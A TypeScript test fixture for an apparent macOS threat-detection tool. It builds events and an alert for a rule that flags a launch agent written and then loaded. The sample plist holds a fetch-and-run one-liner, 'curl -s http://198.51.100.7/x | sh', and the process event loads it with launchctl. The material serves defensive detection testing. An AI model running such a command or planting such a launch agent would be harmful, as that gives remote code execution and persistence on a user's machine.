import path from 'node:path';
import { systemClock } from '../../../src/base/clock.js';
import { parseTime } from '../../../src/base/time.js';
import type { Candidate, Detection } from '../../../src/event/alert.js';
import type { EcsDocument } from '../../../src/event/document.js';
import type { Event } from '../../../src/event/event.js';
import type { RuleMeta } from '../../../src/event/rule-meta.js';
import { openStore } from '../../../src/store/index.js';
import { tempFolder } from '../../helpers/run-cli.js';

export const rule: RuleMeta = {
  id: '84ef182d-0141-4ce2-ad66-64197c249018',
  name: 'Launch agent written and loaded within a minute',
  description: 'A launch agent was written and loaded.',
  type: 'eql',
  language: 'eql',
  severity: 'low',
  riskScore: 21,
  version: 1,
  author: ['launchwarden'],
  license: 'Apache-2.0',
  tags: ['OS: macOS', 'Tactic: Persistence'],
  references: ['https://example.org/rule'],
  falsePositives: ['An installer that loads its agent at once.'],
  threat: [
    {
      framework: 'MITRE ATT&CK',
      tactic: { id: 'TA0003', name: 'Persistence', reference: 'https://attack.mitre.org/tactics/TA0003/' },
      technique: [
        {
          id: 'T1543',
          name: 'Create or Modify System Process',
          reference: 'https://attack.mitre.org/techniques/T1543/',
          subtechnique: [
            {
              id: 'T1543.001',
              name: 'Launch Agent',
              reference: 'https://attack.mitre.org/techniques/T1543/001/',
            },
          ],
        },
      ],
    },
  ],
  note: '## What happened\nSomething was loaded. Ask alice.',
  setup: '',
  interval: '5m',
  from: 'now-9m',
  maxSignals: 100,
  file: 'builtin/launch-agent.toml',
  query: 'sequence ...',
};

export const plistPath = '/Users/alice/Library/LaunchAgents/com.evil.plist';
export const sha256 = 'ab'.repeat(32);

export function event(id: string, time: string, doc: EcsDocument): Event {
  const { time: micros, nanos } = parseTime(time)!;
  return {
    id,
    time: micros,
    nanos,
    sequence: 0,
    doc: { '@timestamp': time, ...doc, event: { ...doc.event, id } },
  };
}

export function fileEvent(id = 'f1', file: EcsDocument['file'] = {}): Event {
  return event(id, '2026-11-22T05:40:13.281123Z', {
    event: { category: ['file'], type: ['change'], action: 'modification' },
    host: { name: 'mac-1', os: { type: 'macos' } },
    file: {
      path: plistPath,
      name: 'com.evil.plist',
      type: 'file',
      size: 512,
      mode: '0644',
      inode: '12345',
      owner: 'alice',
      uid: '501',
      hash: { sha256 },
      ...file,
    },
    launchwarden: {
      sensor: { kind: 'file-watch', precision: 'exact' },
      findings: ['shell-one-liner'],
      plist: {
        format: 'binary',
        label: 'com.evil.agent',
        program_arguments: ['/bin/sh', '-c', 'curl -s http://198.51.100.7/x | sh'],
        run_at_load: true,
        triggers: ['WatchPaths'],
        code_signature: { exists: true, trusted: false, status: 'ad hoc', signing_id: 'evil-555' },
      },
    },
  });
}

export function processEvent(id = 'p1', process: EcsDocument['process'] = {}): Event {
  return event(id, '2026-11-22T05:40:13.290123Z', {
    event: { category: ['process'], type: ['start'], action: 'exec' },
    host: { name: 'mac-1', os: { type: 'macos' } },
    user: { id: '501', name: 'alice' },
    process: {
      pid: 4242,
      name: 'launchctl',
      executable: '/bin/launchctl',
      args: ['launchctl', 'load', '-w', plistPath],
      command_line: `launchctl load -w ${plistPath}`,
      working_directory: '/Users/alice',
      entity_id: 'entity-1',
      parent: { pid: 4000, name: 'zsh', executable: '/bin/zsh', args: ['-zsh'] },
      ...process,
    },
    launchwarden: {
      sensor: { kind: 'process-scan', precision: 'interval', not_before: '2026-11-22T05:40:13.285000Z' },
    },
  });
}

export function detection(change: Partial<Detection> = {}): Detection {
  const file = fileEvent();
  const candidates: Candidate[] = [{ event: file, named: true, link: 'path' }];
  const events = change.events ?? [file, processEvent()];
  return {
    id: '3f9a01aa'.repeat(4),
    rule,
    kind: 'match',
    time: events.at(-1)?.time ?? 0,
    events,
    joinKeys: ['mac-1'],
    candidates,
    repeats: 0,
    suppressed: 0,
    ...change,
  };
}

/** Stores the detections in a new data folder, as the agent does. Gives the folder. */
export function storedAlerts(
  detections: readonly Detection[] = [detection()],
  dataDir = path.join(tempFolder(), 'data'),
) {
  const store = openStore({ dataDir, clock: systemClock });
  for (const one of detections) {
    store.alerts.upsert(
      one,
      {
        version: '0.1.0',
        agentId: 'agent-1',
        created: one.time + 42_000,
        sensors: ['file-watch', 'process-scan'],
        simulated: true,
      },
      [],
    );
  }
  store.close();
  return dataDir;
}
